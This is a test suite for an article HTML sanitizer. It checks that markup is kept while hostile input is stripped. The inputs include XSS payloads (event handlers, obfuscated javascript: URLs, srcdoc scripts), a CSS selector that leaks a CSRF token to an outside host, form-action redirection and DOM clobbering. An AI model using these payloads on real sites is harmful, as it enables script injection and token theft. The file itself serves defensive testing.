import { expect } from '@open-wc/testing';
import { cleanArticleHtml, parseInert } from '../../src/sanitize/article-html.js';
import { waitFor } from '../support/api.js';

const BASE = 'https://news.example/story';

/** The cleaned content in a holder element (not in the page). */
const holder = (markup: string, allowEmbeds = false) => {
  const div = document.createElement('div');
  div.append(cleanArticleHtml(markup, { base: BASE, allowEmbeds }));
  return div;
};

/** Every attribute left, as `tag[name=value]`. */
const attributesLeft = (root: Element) =>
  [...root.querySelectorAll('*')].flatMap((el) => [...el.attributes].map(({ name, value }) => `${el.localName}[${name}=${value}]`));

describe('cleanArticleHtml (hard mode content)', () => {
  afterEach(() => delete (window as { __canary?: number }).__canary);

  it('keeps an article’s markup: headings, paragraphs, links, emphasis, lists, tables, figures, media', () => {
    const div = holder(`<h2 class="sub">Next</h2><p lang="fr" dir="ltr" title="t">Text with <a href="/more" rel="nofollow">a link</a>,
      <em>emphasis</em>, <abbr title="World Health Organization">WHO</abbr> and H<sub>2</sub>O.</p>
      <ul><li>One</li></ul><ol start="3"><li value="3">Three</li></ol>
      <table><caption>Turnout</caption><tr><th scope="col" colspan="2">Ward</th></tr><tr><td rowspan="2">North</td></tr></table>
      <figure><picture><source srcset="https://img.example/a.avif 1x, https://cdn.example/a@2x.avif 2x" type="image/avif"><img src="https://img.example/a.jpg" alt="A pier" width="640" height="480" loading="lazy"></picture>
      <figcaption>The pier</figcaption></figure><blockquote cite="https://source.example/q">Quoted</blockquote>
      <time datetime="2026-11-29">Sunday</time><ruby>漢<rt>かん</rt></ruby><video src="https://img.example/v.mp4" controls poster="https://img.example/p.jpg"></video>
      <a href="mailto:desk@news.example">Write to us</a> <a href="tel:+441234">Call</a>`);
    expect(div.querySelector('h2')!.textContent).to.equal('Next');
    expect(div.querySelector('a')!.getAttribute('href')).to.equal('/more');
    expect(div.querySelector('a')!.getAttribute('rel')).to.equal('nofollow');
    expect(div.querySelector('img')!.getAttribute('alt')).to.equal('A pier');
    expect(div.querySelector('source')!.getAttribute('srcset')).to.equal('https://img.example/a.avif 1x, https://cdn.example/a@2x.avif 2x');
    expect(div.querySelector('th')!.getAttribute('colspan')).to.equal('2');
    expect(div.querySelector('ol')!.getAttribute('start')).to.equal('3');
    expect(div.querySelector('rt')!.textContent).to.equal('かん');
    expect(div.querySelector('video')!.hasAttribute('controls')).to.equal(true);
    expect([...div.querySelectorAll('a')].map((a) => a.getAttribute('href'))).to.deep.equal([
      '/more',
      'mailto:desk@news.example',
      'tel:+441234',
    ]);
    expect(div.querySelector('h2')!.className).to.equal('sub');
  });

  it('drops a <style> that restyles the page or leaks a hidden token through CSS', () => {
    const div = holder(
      '<style>@import url(https://other.example/x.css); body:has(input[name=csrf][value^="s"]) p{background:url(https://other.example/leak?s)}</style><p>Text</p>',
    );
    expect(div.querySelector('style')).to.equal(null);
    expect(div.innerHTML).to.equal('<p>Text</p>');
  });

  it('drops form controls: a button cannot post the page’s own form elsewhere', () => {
    const div = holder(
      '<button form="pageform" formaction="https://other.example/">Go</button><form action="https://other.example/"><input name="q"><p>In a form</p></form>',
    );
    expect(div.querySelector('button, form, input')).to.equal(null);
    expect(div.innerHTML).to.equal('<p>In a form</p>');
  });

  it('drops style=, id= and name=: nothing covers the viewport or clobbers a global', () => {
    const div = holder(
      '<p style="position:fixed;inset:0;z-index:99999">Cover</p><a id="pageConfig" href="/x">c</a><img name="cookie" src="https://img.example/i.png" alt="">',
    );
    expect(attributesLeft(div)).to.deep.equal(['a[href=/x]', 'img[src=https://img.example/i.png]', 'img[alt=]']);
  });

  it('drops iframes, and with allowEmbeds keeps those from other origins over https, sandboxed and without allow=', () => {
    const markup =
      '<iframe src="https://video.example/embed/1" allow="camera;microphone" allowfullscreen width="560"></iframe>' +
      '<iframe src="http://video.example/embed/2"></iframe><iframe src="/same-origin"></iframe><iframe srcdoc="<p>x</p>"></iframe>';
    expect(holder(markup).querySelector('iframe')).to.equal(null);
    const embeds = holder(markup, true).querySelectorAll('iframe');
    expect(embeds).to.have.length(1);
    expect(attributesLeft(holder(markup, true))).to.deep.equal([
      'iframe[src=https://video.example/embed/1]',
      'iframe[width=560]',
      'iframe[sandbox=allow-scripts allow-same-origin allow-popups allow-popups-to-escape-sandbox allow-presentation]',
      'iframe[referrerpolicy=strict-origin-when-cross-origin]',
    ]);
  });

  it('drops ping=, srcset= that is not http(s), nested gates, popovertarget and commandfor', () => {
    const div = holder(
      '<a href="/x" ping="https://tracker.example/p">x</a><img src="https://img.example/i.png" srcset="javascript:alert(1) 1x, https://img.example/i@2x.png 2x" alt="">' +
        '<paywall-gate><p>nested</p></paywall-gate><a href="/y" popovertarget="menu" commandfor="dialog" command="show-modal">y</a>',
    );
    expect(attributesLeft(div)).to.deep.equal(['a[href=/x]', 'img[src=https://img.example/i.png]', 'img[alt=]', 'a[href=/y]']);
    expect(div.textContent).to.not.include('nested');
  });

  it('keeps only allowed schemes, with control characters and spaces stripped as the URL parser strips them', () => {
    const div = holder(
      [
        'javascript:alert(1)',
        ' JaVa&#x09;script:alert(1)',
        '&#1;//other.example/',
        '//other.example/',
        'data:text/html,x',
        'vbscript:x',
        'https://ok.example/',
      ]
        .map((href, i) => `<a href="${href}">${i}</a>`)
        .join(''),
    );
    expect([...div.querySelectorAll('a')].map((a) => a.getAttribute('href'))).to.deep.equal([
      null,
      null,
      null,
      null,
      null,
      null,
      'https://ok.example/',
    ]);
  });

  it('gives a link to a new tab no opener', () => {
    const div = holder('<a href="/x" target="_blank" rel="opener">x</a><a href="/y" target="frame1">y</a>');
    expect(attributesLeft(div)).to.deep.equal(['a[href=/x]', 'a[target=_blank]', 'a[rel=noopener noreferrer]', 'a[href=/y]']);
  });

  it('unwraps unknown and custom elements (their text stays) and drops SVG, MathML and comments', () => {
    const div = holder(
      '<x-widget data-id="1"><p>Inside</p></x-widget><svg><script>1</script><a href="/x">s</a></svg><math><mi>x</mi></math><!-- note -->',
    );
    expect(div.innerHTML).to.equal('<p>Inside</p>');
  });

  it('runs nothing once in the page', async () => {
    const div = holder(`<p onclick="window.__canary=1">P</p><script>window.__canary=1</script>
      <img src="/api/broken-image" onerror="window.__canary=1"><a href="javascript:window.__canary=1">a</a>
      <iframe srcdoc="<script>parent.__canary=1</script>"></iframe><svg onload="window.__canary=1"></svg>
      <details open ontoggle="window.__canary=1"><summary>s</summary></details><base href="https://evil.example/">`);
    document.body.append(div);
    // Its image fails to load, and the details element toggles: the handlers, had they been kept, would have run.
    await waitFor(() => [...div.querySelectorAll('img')].every((img) => img.complete), 'the images to fail');
    div.querySelector('a')!.click();
    div.remove();
    expect((window as { __canary?: number }).__canary).to.equal(undefined);
    for (const el of div.querySelectorAll('*')) for (const { name } of el.attributes) expect(name).to.not.match(/^on/);
  });
});

describe('parseInert', () => {
  it('parses without running or loading anything, and cleans nothing (for a publisher’s own sanitizer)', () => {
    const fragment = parseInert('<p class="x">Text</p><img src="/api/broken-image" onerror="window.__canary=1">');
    expect(fragment.querySelector('p')!.className).to.equal('x');
    expect(fragment.querySelector('img')!.getAttribute('onerror')).to.equal('window.__canary=1');
    expect((window as { __canary?: number }).__canary).to.equal(undefined);
  });
});
